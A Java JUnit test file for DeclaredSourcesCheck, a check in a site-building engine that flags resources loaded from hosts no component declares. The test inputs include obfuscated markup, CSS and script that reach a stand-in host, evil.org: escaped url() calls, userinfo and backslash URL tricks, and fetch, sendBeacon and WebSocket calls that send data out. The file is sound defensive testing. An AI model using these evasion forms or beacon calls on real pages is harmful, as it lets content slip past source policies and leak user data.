package org.sitewright.engine.verification.security;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sitewright.api.contract.Severity;
import org.sitewright.api.contract.security.DeclaredSources;
import org.sitewright.api.contract.security.Sources;
import org.sitewright.api.verification.Finding;
import org.sitewright.api.verification.RenderedBlock;
import org.sitewright.api.verification.RenderedPage;
import org.sitewright.api.verification.Subject;
import org.sitewright.engine.verification.BlockUnderTest;
import org.sitewright.engine.verification.DefaultClause;
import org.sitewright.engine.verification.PageUnderTest;

class DeclaredSourcesCheckTest {
    @Sources(frame = "https://player.org", image = "https://img.org", connect = "https://api.org")
    record Video() {}

    record Note() {}

    record Picture(String url) {}

    @Sources(
            frame = "https://frame.org",
            image = "https://image.org",
            script = "https://script.org",
            connect = "https://connect.org",
            form = "https://form.org")
    record Each() {}

    private static List<Finding> check(RenderedPage page) {
        return new DeclaredSourcesCheck().check(DefaultClause.of(DeclaredSources.class), page);
    }

    @Test
    void shouldAcceptDeclaredHostsAndOwn() {
        RenderedBlock block = BlockUnderTest.of(
                        new Video(),
                        """
                <div id="block"><iframe src="https://PLAYER.org:443/v"></iframe><img src="https://site.test/a.webp" srcset="/b.webp 2x">
                <a href="https://elsewhere.org">Read on elsewhere.org</a></div>""")
                .css(
                        "/* https://evil.org */ a{background:url( 'https://img.org/a.png' )} @font-face{src:url(/f.woff2)}")
                .script(
                        "// https://evil.org\nfetch('https://api.org/v1'); const ns = 'http://www.w3.org/2000/svg'; 'a//b'.split('//');")
                .rendered();
        assertEquals(List.of(), check(PageUnderTest.of(block).rendered()));
    }

    @Test
    void shouldRejectHostThatNoComponentDeclares() {
        RenderedBlock block = BlockUnderTest.of(new Note(), "<p id=block><img src='//evil.org/a.png'></p>")
                .rendered();
        assertEquals(
                List.of(new Finding(
                        "SEC-002",
                        Severity.ERROR,
                        block.blaming("xhtml"),
                        "Loads //evil.org/a.png (image) from https://evil.org, which no component on the page declares",
                        "Declare @Sources(image = \"https://evil.org\") on the component, or leave it out")),
                check(PageUnderTest.of(block).rendered()));
    }

    @Test
    void shouldBlameThePageForTheHostThatItsAuthorGives() {
        RenderedBlock block = BlockUnderTest.of(
                        new Picture("https://evil.org/a.png"), "<p id=block><img src='https://evil.org/a.png'></p>")
                .rendered();
        assertEquals(
                List.of(block.subject()),
                check(PageUnderTest.of(block).rendered()).stream()
                        .map(Finding::subject)
                        .toList());
    }

    /** A host is open to what it was declared for; a hint, or an address in a script, may be of any. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    <iframe src=//HOST></iframe>                 | frame
                    <img src=//HOST>                             | image
                    <script src=//HOST></script>                 | script
                    <a href=/ ping=//HOST>x</a>                  | connect
                    <form action=//HOST></form>                  | form
                    <link rel=preconnect href=//HOST>            | frame image script connect form
                    <link rel=stylesheet href=//HOST>            | none
                    <link rel=preload as=font href=//HOST>       | none
                    <video src=//HOST></video>                   | none
                    <object data=//HOST></object>                | none
                    """)
    void shouldAcceptHostOnlyForWhatItIsDeclared(String html, String kinds) {
        for (String kind : List.of("frame", "image", "script", "connect", "form")) {
            RenderedBlock block = BlockUnderTest.of(
                            new Each(), "<div id=block>" + html.replace("HOST", kind + ".org") + "</div>")
                    .rendered();
            assertEquals(
                    kinds.contains(kind),
                    check(PageUnderTest.of(block).rendered()).isEmpty(),
                    html + kind);
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    <iframe src=//a.org></iframe>                | Declare @Sources(frame = "https://a.org") on the component, or leave it out
                    <form action=//a.org></form>                 | Declare @Sources(form = "https://a.org") on the component, or leave it out
                    <link rel=preconnect href=//a.org>           | Declare https://a.org in @Sources, or leave it out
                    <link rel=stylesheet href=//a.org>           | Serve it from this site, or leave it out
                    <video src=//a.org></video>                  | Serve it from this site, or leave it out
                    <base href=//a.org>                          | Serve it from this site, or leave it out
                    """)
    void shouldSayHowToDeclareIt(String html, String fix) {
        assertEquals(
                List.of(fix),
                check(PageUnderTest.of(html).rendered()).stream()
                        .map(Finding::fix)
                        .toList());
    }

    @Test
    void shouldAcceptDeclaredHostOutsideBlocks() {
        RenderedBlock block = BlockUnderTest.of(new Video(), "<p id=block></p>").rendered();
        assertEquals(
                List.of(),
                check(PageUnderTest.of(block.html() + "<img src=//img.org/a.png>")
                        .with(block)
                        .rendered()));
    }

    @Test
    void shouldRejectHostThatOnlyAnotherComponentDeclares() {
        RenderedBlock video =
                BlockUnderTest.of(new Video(), "<p id=video></p>").id("video").rendered();
        RenderedBlock note = BlockUnderTest.of(new Note(), "<p id=block></p>")
                .css("p{background:url(https://img.org/x)}")
                .rendered();
        assertEquals(
                List.of(new Finding(
                        "SEC-001",
                        Severity.ERROR,
                        note.blaming("css"),
                        "Loads https://img.org/x (image) from https://img.org, which its component does not declare",
                        "Declare @Sources(image = \"https://img.org\") on the component, or leave it out")),
                check(PageUnderTest.of(video, note).rendered()));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img srcset='/a.webp 1x, https://evil.org/a 2x'>",
                "<img src='\\\\evil.org/a'>",
                "<img src='/&#9;/evil.org/a'>",
                "<img src='https:evil.org/a'>",
                "<img src='https://site.test@evil.org/a'>",
                "<base href='https://evil.org/'>",
                "<meta http-equiv=refresh content='0;URL=\"https://evil.org\"'>",
                "<svg><use href='//evil.org/a#b'/></svg>",
                "<svg><image xlink:href='//evil.org/a'/></svg>",
                "<p style='background:u\\72l(//evil.org)'>",
                "<object data='//evil.org'></object>",
                "<embed src='//evil.org'>",
                "<form action='https://evil.org'></form>",
                "<button formaction='//evil.org'>x</button>",
                "<link rel='PRELOAD' as=font href='//evil.org/f'>",
                "<link rel=preconnect href='//evil.org'>",
                "<video poster='//evil.org/p'></video>",
                "<picture><source srcset='//evil.org/p'></picture>",
                "<audio><source src='//evil.org/p'></audio>",
                "<a ping='//evil.org' href='/'>x</a>",
                "<body background='//evil.org/a'>",
                "<iframe srcdoc='&lt;img src=//evil.org&gt;'></iframe>",
                "<style>@import '//evil.org/a.css'</style>",
                "<input type=image src='//evil.org'>",
                "<script src='http://site.test/a.js'></script>",
                "<template><img src='//evil.org'></template>",
            })
    void shouldFindForeignHostInMarkup(String html) {
        assertEquals(
                List.of(PageUnderTest.SUBJECT),
                check(PageUnderTest.of(html).rendered()).stream()
                        .map(Finding::subject)
                        .toList(),
                html);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "@import url(https://evil.org/a.css);", "@import/**/'https://evil.org/a.css';",
                        "@font-face{src:URL(//evil.org/f)}",
                "a{background:\\75rl(https://evil.org)}", "a{background:url('\\68ttps://evil.org')}",
                        "a{background:image-set('//evil.org/a' 1x)}",
                "a{b:url(/x/*)} c{d:url(//evil.org)} e{f:url(/*/)}",
            })
    void shouldFindForeignHostInStyleSheet(String css) {
        assertEquals(1, check(PageUnderTest.of("<p>").css(css).rendered()).size(), css);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "import x from 'https://evil.org/a.js'", "import('https://evil.org/a.js')",
                        "fetch(`https://evil.org/${x}`)",
                "new WebSocket(\"wss://evil.org\")", "new EventSource('//evil.org')",
                        "navigator.sendBeacon('https://evil.org')",
                "r.open('GET', 'https://evil.org')", "const u = '\\x68ttps://evil.org'; fetch(u)",
                        "i.src = '//evil.org/p.gif'",
                "if (/[/'\"]/.test(a)) fetch('https://evil.org')",
            })
    void shouldFindForeignHostInScript(String script) {
        RenderedBlock block =
                BlockUnderTest.of(new Note(), "<p id=block>").script(script).rendered();
        List<Subject> subjects = check(PageUnderTest.of(block).rendered()).stream()
                .map(Finding::subject)
                .toList();
        assertEquals(List.of(block.blaming("js")), subjects, script);
    }
}
